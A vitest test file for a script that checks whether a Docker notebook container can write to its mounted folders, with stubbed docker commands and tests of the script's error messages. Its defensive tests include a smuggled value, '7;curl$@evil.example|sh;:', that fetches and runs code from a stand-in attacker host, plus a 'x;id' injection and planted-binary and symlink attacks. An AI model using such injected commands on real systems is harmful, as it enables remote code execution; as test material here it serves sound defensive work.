/** The proof that a notebook can write to its folders: Docker is pretended, the container's shell and its folders are real. */
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { lacks, missingPrograms, pathWith, pretend, runScript } from "../support/host-script.ts";
import { ownFolder } from "../support/own-folder.ts";

const folder = ownFolder();

/** Who runs in the container, in these tests. */
const UID = 4321;
const notRoot = lacks(process.getuid?.() !== 0, "running as somebody else takes root");

interface Pretended {
  /** Words before the container's shell. */
  before?: string;
  shell?: string;
  /** What the daemon says of itself, and of how it made the container. */
  security?: string;
  usernsMode?: string;
  user?: string;
  /** Of the mounts. */
  type?: "bind" | "volume";
  volumes?: string[];
  timeout?: string;
  /** What its `id` says in the container, where that is not the truth. */
  inside?: string;
  /** Further programs of the host by name, and their text. */
  programs?: Record<string, string>;
  /** The same, of the image. */
  image?: Record<string, string>;
  /** What is done before the container's shell starts, such as to lead PATH elsewhere. */
  planted?: string;
  /** Who runs the script, and in that case the container as well; root by default. */
  uid?: number;
}

let runs = 0;
/** A new folder that `UID` may write to. */
function newFolder(name = "code"): string {
  const path = join(folder, `folder ${++runs}`, name);
  mkdirSync(path, { recursive: true });
  chownSync(path, UID, UID);
  return path;
}

/** Tries folders, which the container has where this machine has them. */
async function prove(folders: string[], options: Pretended = {}) {
  const {
    inside,
    uid,
    shell = "sh",
    before = uid === undefined ? `setpriv --reuid=${UID} --regid=${UID} --clear-groups` : "",
    security = "[name=seccomp,profile=default]",
    usernsMode = "",
    type = "bind",
    volumes = [],
    timeout = "20",
    programs = {},
    image = {},
    planted = "",
    user = "",
  } = options;
  const bin = pathWith(
    join(folder, `bin${++runs}`),
    "timeout setpriv unshare mount id grep dash bash busybox",
  );
  const mounts = [...folders, ...volumes].map(
    (path) => `${path}\\t${type}\\t${type === "bind" ? path : "home"}\\n`,
  );
  const docker = [
    'case "$*" in',
    // Programs of the test's own stand in for some of the image's.
    `'exec -i container1 /bin/sh') ${planted}sed 's|^PATH=|&${bin}/inside:|' | exec ${before} ${shell} ;;`,
    `*Mounts*) printf '${mounts.join("")}' ;;`,
    `*SecurityOptions*) echo '${security}' ;;`,
    `*UsernsMode*) echo '${usernsMode}' ;;`,
    `*Config.User*) echo '${user}' ;;`,
    "*.Image*) echo sha256:abc ;;",
    "*Mountpoint*) echo /var/lib/docker/volumes/home/_data ;;",
    "*) exit 9 ;;",
    "esac",
  ].join("\n");
  for (const [name, text] of Object.entries({ docker, ...programs })) pretend(bin, name, text);
  mkdirSync(join(bin, "inside"));
  const id = inside === undefined ? {} : { id: `echo '${inside}'` };
  for (const [name, text] of Object.entries({ ...id, ...image })) pretend(join(bin, "inside"), name, text);
  const environment = {
    CONTAINER: "container1",
    FOLDERS: folders.join("\n"),
    VOLUMES: volumes.join("\n"),
    TIMEOUT: timeout,
  };
  return await runScript("prove-folders.sh", environment, { path: bin, uid });
}

describe.skipIf(notRoot)("prove-folders.sh", () => {
  const shells = ["dash", "bash", "bash --posix", "busybox sh"].filter(
    (shell) => missingPrograms(shell.split(" ")[0] as string).length === 0,
  );
  it.each(shells)("writes and leaves nothing, by the container's %s", async (shell) => {
    const folders = [newFolder(), newFolder('it\'s "data" $HOME')];
    const run = await prove(folders, { shell });
    expect(run).toEqual({ code: 0, stdout: `can write to ${folders.join(" ")}\n`, stderr: "" });
    expect(folders.map((path) => readdirSync(path))).toEqual([[], []]);
  });

  it.each(
    shells,
  )("says which cannot be written, why, and what mends it, by the container's %s", async (shell) => {
    const [code, data] = [newFolder(), newFolder("data")];
    chownSync(data, 0, 0);
    const run = await prove([code, data], { shell, uid: UID });
    expect({ code: run.code, stdout: run.stdout }).toEqual({ code: 1, stdout: "" });
    const lines = run.stderr.trimEnd().split("\n");
    expect(lines).toEqual([
      `folders of container1: ${data} cannot be written from container1: Permission denied`,
      `folders of container1:   it runs as uid ${UID} in the groups ${UID}; there ${data} is drwxr-xr-x of 0:0`,
      `folders of container1:   on the host it is ${data}, drwxr-xr-x of 0:0, and you are uid ${UID} in the groups ${UID}`,
      `folders of container1:   to take it over:  sudo chown -R ${UID}:${UID} '${data}'`,
      "folders of container1: not ready, as what is done in a notebook could not be saved; once it is mended, run the same again",
    ]);
  });

  it("tells a disk that can only be read, or is full, from one that is another's", async () => {
    const path = newFolder();
    const on = (options: string) =>
      prove([path], {
        shell: "bash",
        before: `unshare --mount bash -c 'mount -t tmpfs ${options} tmpfs "$0" && { cat /dev/zero >"$0/full" 2>/dev/null; :; } && exec setpriv --reuid=${UID} --regid=${UID} --clear-groups "$@"' '${path}'`,
      });
    const readOnly = await on("-o ro,mode=777");
    expect(readOnly.code).toBe(1);
    expect(readOnly.stderr).toMatch(
      /Read-only file system\n.*\n.*\n.*mount -o remount,rw .*docker restart container1/,
    );
    const full = await on("-o size=8k,mode=777");
    expect(full.code).toBe(1);
    expect(full.stderr).toMatch(/No space left on device\n.*\n.*\n.*its disk is full: {2}df -h '/);
  });

  it("knows a full disk by what dash has to say of it, too", async () => {
    const path = newFolder();
    const before = `unshare --mount bash -c 'mount -t tmpfs -o size=8k,mode=777 tmpfs "$0" && { cat /dev/zero >"$0/full" 2>/dev/null; :; } && exec "$@"' '${path}'`;
    expect((await prove([path], { shell: "dash", before })).stderr).toContain("its disk is full:  df -h");
  });

  it.each<[string, Pretended, RegExp]>([
    [
      "a rootless daemon",
      { security: "[name=seccomp name=rootless]", inside: "0" },
      /rootless: in a notebook you are root, and have none of your groups; .*sudo chown -R 4321:4321/,
    ],
    [
      "an image's own user on a rootless daemon",
      { security: "[name=rootless]", inside: "99" },
      /rootless, and only root in a container is you: leave out {2}user: image/,
    ],
    [
      "an image's own user on a daemon that remaps",
      { security: "[name=userns]", inside: "99" },
      /userns-remap.*leave out {2}user: image/,
    ],
    [
      "an image's own user",
      { inside: "99" },
      /the notebook is not you on the host: leave out {2}user: image .*sudo setfacl -R -m u:99:rwX/,
    ],
  ])("explains %s", async (_, options, message) => {
    const path = newFolder();
    chownSync(path, 7, 7);
    chmodSync(path, 0o755);
    const run = await prove([path], { uid: UID, ...options });
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(message);
  });

  it("gives a home volume of somebody else's back by the image itself", async () => {
    const path = newFolder();
    chownSync(path, 7, 7);
    const { stderr } = await prove([path], { type: "volume", uid: UID });
    expect(stderr).toContain(
      `docker run --rm --user 0 --entrypoint chown -v 'home:${path}' 'sha256:abc' -R ${UID}:${UID} '${path}'`,
    );
  });

  it("tells of groups that notebooks are not given, and of SELinux, where the person may write", async () => {
    // The container may not.
    const rm = "echo 'rm: cannot remove: Permission denied' >&2; exit 1";
    const as = { uid: UID, image: { rm } };
    expect((await prove([newFolder()], as)).stderr).toContain("by a group that notebooks are not given");
    const programs = { getenforce: "echo Enforcing" };
    expect((await prove([newFolder()], { ...as, programs })).stderr).toContain(
      "chcon -R -t container_file_t",
    );
  });

  it("only says of further folders that they cannot be written", async () => {
    const [code, models, file] = [newFolder(), newFolder("models"), join(newFolder(), "file")];
    chownSync(models, 0, 0);
    writeFileSync(file, "mine", { mode: 0o644 });
    const run = await prove([code], { volumes: [models, file] });
    expect({ code: run.code, stdout: run.stdout }).toEqual({ code: 0, stdout: `can write to ${code}\n` });
    expect(run.stderr).toContain(`${models} cannot be written`);
    expect(run.stderr).toContain(`${file} cannot be written`);
    expect(run.stderr).toContain("say  readOnly: true  of that volume");
    expect(readFileSync(file, "utf8")).toBe("mine");
  });

  it("follows no link that a notebook put in its way, and clears away what a kill left", async () => {
    const path = newFolder();
    const victim = join(newFolder(), "victim");
    writeFileSync(victim, "mine");
    chownSync(victim, UID, UID);
    symlinkSync(victim, join(path, ".gpubox-proof-dead"));
    mkdirSync(join(path, ".gpubox-proof-folder"));
    expect((await prove([path])).code).toBe(0);
    expect(readdirSync(path)).toEqual([".gpubox-proof-folder"]);
    // As if it had been guessed.
    symlinkSync(victim, join(path, ".gpubox-proof-guessed"));
    const run = await prove([path], { programs: { od: "echo guessed" }, image: { rm: "exit 0" } });
    expect(run.code).toBe(1);
    expect(readFileSync(victim, "utf8")).toBe("mine");
    expect(existsSync(join(path, ".gpubox-proof-guessed"))).toBe(true);
  });

  describe("with a notebook that wants to be heard", () => {
    /** Lines of ours, which a person may do as they say. */
    const ours = (stderr: string) => stderr.split("\n").filter((line) => !line.startsWith("  "));
    const EVIL = "7;curl$@evil.example|sh;:";

    it("runs none of the programs that it put where the container's PATH leads", async () => {
      const planted = newFolder("bin");
      for (const name of ["sh", "rm", "ls", "id"])
        pretend(planted, name, `echo "NO planted ${name}"; exit 1`);
      const data = newFolder();
      const run = await prove([data], { planted: `PATH='${planted}':$PATH; `, shell: "/bin/sh" });
      expect(run).toEqual({ code: 0, stdout: `can write to ${data}\n`, stderr: "" });
    });

    it.each([
      ["a claim", (path: string) => `NO ${path}\nIS drwx 1 0 0\nWHY x\nYES 1\nWHO 7 7`],
      ["an id", () => `WHO ${EVIL} 0`],
      ["a folder that nobody asked about", () => `NO /etc/${EVIL}\nIS d 1 ${EVIL}\nWHY ${EVIL}\nWHO 7 7`],
      ["nothing", () => ""],
    ])("believes no shell of its own that says %s, and shows it as not ours", async (_, says) => {
      const path = newFolder();
      const printed = says(path);
      // It stands for the container's, as where root in a container is the notebook, and has not looked at what it was handed.
      const run = await prove([path], { planted: `cat >/dev/null; printf '%s\n' '${printed}'; exit; ` });
      expect(run).toMatchObject({ code: 1, stdout: "" });
      expect(ours(run.stderr).join("\n")).not.toMatch(/evil|setfacl|chown|planted/);
      if (printed) expect(run.stderr).toContain(`\n  ${printed.split("\n").at(-1)}\n`);
    });

    /** A shell of its own that reads the word it was handed. */
    const knowing = (text: string) =>
      `word=$(sed -n 's/^word=\\([^ ]*\\).*/\\1/p'); printf "${text}" | sed "s/^/$word /"; exit; `;

    it.each([EVIL, `7 ${EVIL}`, "7:8", "7 8\\nWHO 9 9"])("makes no command of the id %s", async (who) => {
      const path = newFolder();
      const text = `IS 1 drwx 1 0 0\\nNO 1 Permission denied\\nWHO ${who.replaceAll("$", "\\$")}\\n`;
      const run = await prove([path], { planted: knowing(text) });
      expect(run.code).toBe(1);
      expect(run.stderr).toContain("who it runs as is not to be learned there:\n  ");
      expect(ours(run.stderr).join("\n")).not.toMatch(/evil|setfacl|chown|docker run/);
    });

    it("lets no other user into its folders than the daemon started", async () => {
      const planted = knowing("NO 1 Permission denied\\nWHO 7 7\\n");
      const suggested = async (user: string) => (await prove([newFolder()], { planted, user })).stderr;
      expect(await suggested("1000:1000")).not.toContain("setfacl");
      for (const user of ["", "7:7", "7", "jovyan"])
        expect(await suggested(user)).toContain("setfacl -R -m u:7:");
    });

    it("shows a reason and a mode of its own as not ours, and hears of no further folder", async () => {
      const path = newFolder();
      const evil = EVIL.replaceAll("$", "\\$");
      const text = `IS 1 ${evil} 1 ${evil} 0\\nNO 1 ${evil}\\nNO 2 x\\nNO /etc x\\nWHO 7 7\\n`;
      const run = await prove([path], { planted: knowing(text) });
      expect(run.stderr).toContain(`cannot be written from container1:\n  ${EVIL}\n`);
      expect(ours(run.stderr).join("\n")).not.toMatch(/evil|\/etc/);
      expect(run.stderr).toContain(`sudo setfacl -R -m u:7:rwX -m d:u:7:rwX '${path}'`);
    });

    it("takes no folder for proven that is not vouched for", async () => {
      const [code, data, models] = [newFolder(), newFolder("data"), newFolder("models")];
      const run = await prove([code, data], {
        volumes: [models],
        planted: knowing("YES 1\\nYES 9\\nWHO 7 7\\n"),
      });
      expect(run.code).toBe(1);
      expect(run.stderr).not.toContain(`whether ${code} `);
      for (const path of [data, models]) expect(run.stderr).toContain(`whether ${path} can be written`);
    });
  });

  it("waits for no disk for ever", async () => {
    const run = await prove([newFolder()], { before: "sleep 60; :", timeout: "1" });
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/did not end within 1 s/);
  });

  it("says where it cannot be tried, and fails where the container does not run", async () => {
    const path = newFolder();
    const without = await prove([path], {
      programs: { docker: "echo 'exec: \"/bin/sh\": stat /bin/sh: no such file or directory' >&2; exit 127" },
    });
    expect({ ...without, stderr: "" }).toEqual({ code: 0, stdout: "not tried\n", stderr: "" });
    expect(without.stderr).toContain("the image has no sh in /bin");
    const toolless = "sed 's|^PATH=.*|PATH=/nonexistent|' | exec sh; exit;";
    const tools = await prove([path], { planted: toolless });
    expect(tools).toMatchObject({ code: 0, stdout: "not tried\n" });
    expect(tools.stderr).toContain("the image has no rm in /bin");
    const gone = await prove([path], {
      programs: { docker: "printf 'No such container\\033[2J\\n' >&2; exit 1" },
    });
    expect(gone.code).toBe(1);
    expect(gone.stderr).toMatch(
      /could not look into the container; what came back:\n {2}No such container\?\[2J\n/,
    );
    const environment = { CONTAINER: "container1", FOLDERS: path, TIMEOUT: "20" };
    const bare = await runScript("prove-folders.sh", environment, {
      path: pathWith(join(folder, "bare"), ""),
    });
    expect(bare).toMatchObject({ code: 0, stdout: "not tried\n" });
    expect(bare.stderr).toContain("there is no docker command");
  });

  it.each([
    [{ CONTAINER: "-x" }, "container: '-x' is not a name"],
    [{ CONTAINER: "x;id" }, "container: 'x;id' is not a name"],
    [{ FOLDERS: "code" }, "folders: 'code' are not absolute"],
    [{ TIMEOUT: "soon" }, "timeout: 'soon' is not a number"],
  ])("refuses %j", async (wrong, message) => {
    const right = { CONTAINER: "container1", FOLDERS: "/code", TIMEOUT: "20" };
    const run = await runScript("prove-folders.sh", { ...right, ...wrong });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(message);
  });
});
